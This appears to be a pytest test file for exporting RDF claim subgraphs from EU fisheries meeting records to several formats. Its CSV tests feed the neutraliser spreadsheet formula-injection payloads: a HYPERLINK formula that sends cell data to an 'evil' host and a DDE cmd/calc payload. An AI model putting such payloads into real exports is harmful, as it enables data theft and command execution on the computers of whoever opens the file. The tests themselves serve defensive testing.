"""Subgraphs to take away: whole, with evidence, and readable by others."""

import csv
import io
import json
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import networkx as nx
import pytest
import rdflib
from pyoxigraph import (
    BlankNode,
    Literal,
    NamedNode,
    Quad,
    RdfFormat,
    Store,
    Triple,
    parse,
)

from graph.answer import Table
from graph.choosing import chosen_with_documents
from graph.errors import ExportError
from graph.export import FORMATS, Selection, export_claims
from graph.formulas import neutralise, restore
from graph.pool import QueryPool
from graph.questions import answer_question
from graph.row_forms import write_table
from graph.rows import claim_columns, claim_rows
from graph.selection import SubgraphReader
from graph.store import StoreWriter

SP = "https://w3id.org/standpunt/ontology#"
A_CLAIM = "https://w3id.org/standpunt/id/document/aaaaaaaaaaaaaaaa/claim/88-1"
SPLIT = "https://w3id.org/standpunt/id/document/bbbbbbbbbbbbbbbb/claim/174-1"
REPORT_GRAPH = "https://w3id.org/standpunt/id/graph/document/bbbbbbbbbbbbbbbb"
LABEL = Selection(issue="issue:fish-label")
EVERYTHING = Selection()
OF_MANY = [name for name in FORMATS if name != "nanopub"]
TEXTS = [name for name in OF_MANY if FORMATS[name].is_text]


EXPORT = "https://w3id.org/standpunt/id/export/"


def quads_of(pool: QueryPool, selection: Selection) -> set[Quad]:
    """What belongs to the selected claims, without what the export says of itself."""
    found = SubgraphReader(pool, selection).subgraphs()
    return {quad for subgraph in found for quad in (*subgraph.quads, *subgraph.labels)}


def about_of(pool: QueryPool, selection: Selection) -> set[Quad]:
    """What the export says of itself, off the N-Quads: the graph that is named as the export."""
    content = export_claims(pool, selection, "nquads")
    quads = parse(content, format=RdfFormat.N_QUADS)
    return {quad for quad in quads if str(quad.graph_name).startswith(f"<{EXPORT}")}


def triples(content: bytes, form: RdfFormat) -> set[str]:
    return {str(quad.triple) for quad in parse(content, format=form)}


@pytest.mark.parametrize("form", OF_MANY)
def test_the_same_selection_gives_the_same_bytes(pool: QueryPool, form: str) -> None:
    content = export_claims(pool, EVERYTHING, form)
    assert content == export_claims(pool, EVERYTHING, form)
    assert len(content) > 1000


@pytest.mark.parametrize(("form", "rdf"), [("trig", RdfFormat.TRIG), ("nquads", RdfFormat.N_QUADS)])
def test_named_graphs_come_back_into_an_empty_store_as_they_were(
    pool: QueryPool, form: str, rdf: RdfFormat
) -> None:
    store = Store()
    store.load(export_claims(pool, EVERYTHING, form), format=rdf)
    assert set(store) == quads_of(pool, EVERYTHING) | about_of(pool, EVERYTHING)
    graphs = {str(name) for name in store.named_graphs()}
    assert f"<{REPORT_GRAPH}>" in graphs
    assert len(graphs) == 4


@pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")
def test_trig_is_the_same_dataset_to_rdflib(pool: QueryPool) -> None:
    dataset = rdflib.Dataset()
    dataset.parse(data=export_claims(pool, EVERYTHING, "trig"), format="trig")
    back = set(parse(dataset.serialize(format="nquads").encode(), format=RdfFormat.N_QUADS))
    documents = {quad for quad in back if EXPORT not in str(quad.graph_name)}
    assert documents == quads_of(pool, EVERYTHING)
    assert len(back) == len(documents) + len(about_of(pool, EVERYTHING))


@pytest.mark.filterwarnings("ignore::DeprecationWarning:rdflib")
def test_turtle_and_json_ld_hold_the_same_triples_to_two_readers(pool: QueryPool) -> None:
    turtle = export_claims(pool, EVERYTHING, "turtle")
    jsonld = export_claims(pool, EVERYTHING, "jsonld")
    quads = quads_of(pool, EVERYTHING) | about_of(pool, EVERYTHING)
    expected = {str(quad.triple) for quad in quads}
    assert triples(turtle, RdfFormat.TURTLE) == expected
    assert triples(jsonld, RdfFormat.JSON_LD) == expected
    graph = rdflib.Graph().parse(data=turtle, format="turtle")
    assert set(graph) == set(rdflib.Graph().parse(data=jsonld, format="json-ld"))
    assert len(graph) == len(expected)


def test_an_export_has_no_blank_node_and_no_raw_text(pool: QueryPool) -> None:
    for quad in quads_of(pool, EVERYTHING) | about_of(pool, EVERYTHING):
        assert not isinstance(quad.subject, BlankNode)
        assert not isinstance(quad.object, BlankNode)
        assert quad.predicate.value != f"{SP}text"


def test_a_claim_takes_everything_that_belongs_to_it_and_no_other_claim(pool: QueryPool) -> None:
    quads = quads_of(pool, Selection(claims=(SPLIT,)))
    subjects = {quad.subject.value for quad in quads if isinstance(quad.subject, NamedNode)}
    document = "https://w3id.org/standpunt/id/document/bbbbbbbbbbbbbbbb"
    meeting = "https://w3id.org/standpunt/id/meeting/agrifish-2025-03-24"
    assert {s for s in subjects if s.startswith((document, meeting))} == {
        SPLIT,
        f"{SPLIT}/holders",
        f"{SPLIT}/evidence",
        f"{SPLIT}/evidence/span/1",
        f"{SPLIT}/evidence/span/2",
        document,
        f"{document}/run",
        f"{document}/section/1",
        meeting,
        f"{meeting}/item/1",
    }
    labels = {
        quad.object.value
        for quad in quads
        if isinstance(quad.object, Literal) and quad.object.language == "en"
    }
    assert labels >= {"Germany", "Netherlands", "lower catch quotas", "European Union"}


def test_a_selection_by_filters_and_claims(pool: QueryPool) -> None:
    def claims(selection: Selection) -> list[str]:
        return [
            str(row[0]).rpartition("/")[2]
            for subgraph in SubgraphReader(pool, selection).subgraphs()
            for row in claim_rows(subgraph)
        ]

    assert claims(LABEL) == ["391-1", "341-1"]
    assert claims(Selection(actor="ct:DEU")) == ["174-1"]
    assert claims(Selection(polarity="oppose", meeting="meeting:agrifish-2025-03-24")) == ["235-1"]
    assert claims(Selection(actor="ct:DEU", possible=True, issue="issue:fish-label")) == ["341-1"]
    assert claims(Selection(claims=(SPLIT, A_CLAIM))) == ["88-1", "174-1"]


def test_documents_are_the_same_whether_looked_up_or_all_listed(
    pool: QueryPool, monkeypatch: pytest.MonkeyPatch
) -> None:
    filtered = Selection(min_confidence="0.1")
    looked_up = SubgraphReader(pool, filtered).sources
    monkeypatch.setattr("graph.selection._MAX_DOCUMENTS_ASKED", 0)
    listed = SubgraphReader(pool, filtered).sources
    assert len(listed) > 1
    assert looked_up == listed


@pytest.mark.parametrize(
    "selection",
    [
        LABEL,
        Selection(actor="ct:DEU", possible=True, issue="issue:fish-label"),
        Selection(polarity="oppose", meeting="meeting:agrifish-2025-03-24"),
        Selection(min_confidence="0.9", since="2025-03-01", before="2025-04-01"),
        Selection(meeting="meeting:agrifish-1999-01-01"),
    ],
    ids=Selection.describe,
)
def test_a_large_store_takes_the_same_claims_from_its_columns(
    pool: QueryPool, selection: Selection, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = tuple(SubgraphReader(pool, selection).subgraphs())
    monkeypatch.setattr("graph.selection.COLUMNS_FROM_QUADS", 1)
    assert chosen_with_documents(pool, selection.filters()) is not None
    assert tuple(SubgraphReader(pool, selection).subgraphs()) == asked


@pytest.mark.parametrize(
    "selection", [LABEL, Selection(claims=(A_CLAIM, SPLIT)), Selection(actor="ct:NLD")]
)
def test_what_belongs_to_claims_is_the_same_whether_asked_for_or_found_in_the_whole(
    pool: QueryPool, selection: Selection, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = tuple(SubgraphReader(pool, selection).subgraphs())
    monkeypatch.setattr("graph.selection._MAX_CLAIMS_ASKED", 0)
    assert asked == tuple(SubgraphReader(pool, selection).subgraphs())
    assert all(subgraph.claims and subgraph.quads for subgraph in asked)
    assert asked


def test_a_claim_outside_the_selection_and_an_unknown_format_are_named(pool: QueryPool) -> None:
    with pytest.raises(ExportError, match="88-1"):
        export_claims(pool, Selection(issue="issue:fish-label", claims=(A_CLAIM,)), "trig")
    with pytest.raises(ExportError, match="turtle, trig"):
        export_claims(pool, LABEL, "xls")


@pytest.mark.parametrize("form", TEXTS)
def test_an_empty_selection_is_an_empty_export(pool: QueryPool, form: str) -> None:
    content = export_claims(pool, Selection(actor="ct:NOR"), form)
    assert b"claim/" not in content
    assert form == "csv" or b"country/NOR" in content or b"ct:NOR" in content


def test_json_ld_holds_evidence_inside_its_claim(pool: QueryPool) -> None:
    document = json.loads(export_claims(pool, Selection(claims=(SPLIT,)), "jsonld"))
    nodes = document["@graph"]
    (claim,) = [node for node in nodes if node.get("@type") == "sp:PositionClaim"]
    assert claim["holderSet"]["namedHolder"] == "ct:DEU"
    assert claim["holderSet"]["minHolders"] == 1
    assert claim["evidence"]["quote"] == {"nl": "Dat verzoek werd door Duitsland herhaald"}
    assert [span["oa:start"] for span in claim["evidence"]["span"]] == [174, 189]


@pytest.mark.parametrize(
    "selection",
    [
        EVERYTHING,
        LABEL,
        Selection(actor="ct:DEU", possible=True),
        Selection(actor="ct:FRA", possible=True),
        Selection(actor="ct:NLD"),
        Selection(polarity="support"),
        Selection(meeting="meeting:agrifish-2025-03-24"),
        Selection(document="document:bbbbbbbbbbbbbbbb", issue="issue:lower-quotas"),
    ],
)
@pytest.mark.parametrize("language", ["en", "nl"])
def test_rows_are_those_of_the_stored_question(
    pool: QueryPool, selection: Selection, language: str
) -> None:
    asked = answer_question(pool, "claims", {**selection.filters(), "language": language})
    rows = [
        row[: len(asked.columns)]
        for subgraph in SubgraphReader(pool, selection).subgraphs()
        for row in claim_rows(subgraph, language)
    ]
    assert [column.name for column in claim_columns()][: len(asked.columns)] == list(asked.columns)
    assert rows == [tuple(cell or None for cell in row) for row in asked.plain_rows()]


# --- GraphML -----------------------------------------------------------------------------------


def test_graphml_has_holders_issues_and_claims_with_types(pool: QueryPool) -> None:
    content = export_claims(pool, EVERYTHING, "graphml")
    network = nx.read_graphml(io.BytesIO(content), force_multigraph=True)
    kinds = nx.get_node_attributes(network, "type")
    assert sorted(kinds.values()) == ["actor"] * 2 + ["group"] * 5 + ["issue"] * 4
    germany = "http://publications.europa.eu/resource/authority/country/DEU"
    assert network.nodes[germany] == {
        "type": "actor",
        "bipartite": 0,
        "label": "Germany",
        "code": "DEU",
    }
    ((_, issue, claim),) = network.edges(germany, data=True)
    assert issue == "https://w3id.org/standpunt/id/issue/lower-quotas"
    assert claim["claim"] == SPLIT
    assert (claim["holder"], claim["min"], claim["max"], claim["confidence"]) == (
        "certain",
        1,
        1,
        0.9,
    )
    assert claim["quote"] == "Dat verzoek werd door Duitsland herhaald"
    assert network.number_of_edges() == 10
    root = ElementTree.fromstring(content)
    assert root.tag == "{http://graphml.graphdrawing.org/xmlns}graphml"


NASTY = "'\x00\x01\x0b\x0c\ufffe\U0001f41f \u202e<&>\"=1+1"


def rename(quads: list[Quad], old: str, new: str) -> list[Quad]:
    return [
        Quad(quad.subject, quad.predicate, Literal(new, language="nl"), quad.graph_name)
        if isinstance(quad.object, Literal) and quad.object.value == old
        else quad
        for quad in quads
    ]


@pytest.fixture
def nasty_pool(tmp_path: Path, tiny_quads: dict[str, list[Quad]]) -> QueryPool:
    """The small world, with one phrase replaced by what tools choke on."""
    with StoreWriter(tmp_path / "s") as writer:
        writer.replace_graphs(
            {iri: rename(quads, "Andere lidstaten", NASTY) for iri, quads in tiny_quads.items()}
        )
        writer.publish()
    return QueryPool(tmp_path / "s")


def test_control_characters_leave_every_export_readable(nasty_pool: QueryPool) -> None:
    with nasty_pool as pool:
        selection = Selection(polarity="support", issue="issue:fishing-zone")
        network = nx.read_graphml(io.BytesIO(export_claims(pool, selection, "graphml")))
        assert "'\ufffd\ufffd\ufffd\ufffd\ufffd\U0001f41f \u202e<&>\"=1+1" in {
            node["label"] for _, node in network.nodes(data=True)
        }
        quads = quads_of(pool, selection) | about_of(pool, selection)
        expected = {str(quad.triple) for quad in quads}
        readers: dict[str, Callable[[bytes], set[str]]] = {
            "turtle": lambda content: triples(content, RdfFormat.TURTLE),
            "jsonld": lambda content: triples(content, RdfFormat.JSON_LD),
            "trig": lambda content: triples(content, RdfFormat.TRIG),
        }
        for form, read in readers.items():
            assert read(export_claims(pool, selection, form)) == expected


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_has_a_row_a_claim_with_its_evidence(pool: QueryPool) -> None:
    content = export_claims(pool, LABEL, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert [(row["holders"], row["min"], row["spans"], row["fileName"]) for row in rows] == [
        ("NLD", "1", "391-454", "agenda.txt"),
        ("", "4", "341-415", "report.txt"),
    ]
    assert rows[1]["quote"].startswith("Alle lidstaten op Hongarije na")
    assert rows[1]["sha256"] == "b" * 64


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?x="&A1,"c")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "'=1",
        "''-1",
    ],
)
def test_a_formula_is_neutralised_and_can_be_restored(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["-2", "+0.5", "-1e-5", "text", "", "a=b", "'s-Gravenhage", "'quoted'"]
)
def test_numbers_and_plain_text_stay(cell: str) -> None:
    assert neutralise(cell) == restore(cell) == cell


# --- tables --------------------------------------------------------------------------------------

IRI = NamedNode("https://example.org/x")
XSD_DATE = NamedNode("http://www.w3.org/2001/XMLSchema#date")
TABLE = Table(
    columns=("a", "b"),
    rows=(
        (IRI, Literal("=1", language="nl")),
        (Literal("2026-01-22", datatype=XSD_DATE), None),
        (BlankNode("n"), Literal('x"\r\n,')),
        (Triple(IRI, IRI, IRI), Literal("")),
    ),
    truncated=False,
    generation=1,
    elapsed_s=0.0,
)


def test_a_table_as_csv_with_and_without_safety() -> None:
    rest = '2026-01-22,\r\n_:n,"x""\r\n,"\r\n<https://example.org/x> <https://example.org/x> '
    rest += "<https://example.org/x>,\r\n"
    assert write_table(TABLE, "excel") == "\ufeff" + f"a,b\r\nhttps://example.org/x,'=1\r\n{rest}"
    raw = write_table(TABLE, "csv")
    assert raw == f"a,b\r\nhttps://example.org/x,=1\r\n{rest}"


def test_a_truncated_table_says_so_in_csv_and_json() -> None:
    cut = replace(TABLE, rows=TABLE.rows[:1], truncated=True)
    last = list(csv.reader(io.StringIO(write_table(cut, "csv"), newline="")))[-1]
    assert last == [cut.warning, ""]
    assert str(cut.warning).startswith("TRUNCATED: only the first 1 rows are here")
    assert json.loads(write_table(cut, "json"))["truncated"] == cut.warning
    assert (TABLE.warning, "truncated" in json.loads(write_table(TABLE, "json"))) == (None, False)


def test_a_table_as_sparql_json() -> None:
    uri = {"type": "uri", "value": "https://example.org/x"}
    assert json.loads(write_table(TABLE, "json")) == {
        "head": {"vars": ["a", "b"]},
        "results": {
            "bindings": [
                {"a": uri, "b": {"type": "literal", "value": "=1", "xml:lang": "nl"}},
                {"a": {"type": "literal", "value": "2026-01-22", "datatype": XSD_DATE.value}},
                {
                    "a": {"type": "bnode", "value": "n"},
                    "b": {"type": "literal", "value": 'x"\r\n,'},
                },
                {
                    "a": {
                        "type": "triple",
                        "value": {"subject": uri, "predicate": uri, "object": uri},
                    },
                    "b": {"type": "literal", "value": ""},
                },
            ]
        },
    }
